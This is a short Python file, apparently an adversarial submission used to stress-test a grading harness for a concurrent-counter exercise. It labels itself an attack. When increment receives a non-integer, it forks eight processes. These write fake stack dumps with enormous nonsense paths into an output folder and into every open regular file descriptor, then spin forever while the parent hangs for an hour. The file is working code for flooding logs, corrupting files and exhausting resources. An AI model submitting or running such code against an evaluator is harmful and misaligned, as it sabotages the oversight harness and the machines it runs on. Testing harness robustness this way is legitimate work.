"""Attack: stack dumps that are expensive to read. The racy counter (honestly 6/10). Its
increment('x') forks spinners that write fake faulthandler dumps full of absurd file names
(thousands of 'x/..' components under the work folder) into their stack files, then hangs."""

import os
import stat
import time

import racy

_OUT = os.path.join(os.path.dirname(os.getcwd()), "out")


def _fake_dump() -> bytes:
    path = os.getcwd() + "/" + "x/.." * 30000 + "/solution.py"
    lines = ["Thread 0x00007f0000000001 (most recent call first):"]
    lines += [f'  File "{path}", line {i}, in f{i}' for i in range(1, 9)]
    return ("\n".join(lines) + "\n").encode()


def _spinner():
    data = _fake_dump()
    try:
        with open(os.path.join(_OUT, f"stacks-{os.getpid()}.txt"), "wb") as f:
            f.write(data)
    except OSError:
        pass
    for fd in range(3, 256):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass
    while True:
        pass


class SafeCounter(racy.SafeCounter):
    def increment(self, k=1):
        if not isinstance(k, int):
            for _ in range(8):
                if os.fork() == 0:
                    _spinner()
            time.sleep(3600)
        super().increment(k)


parallel_count = racy.make_parallel_count(SafeCounter)
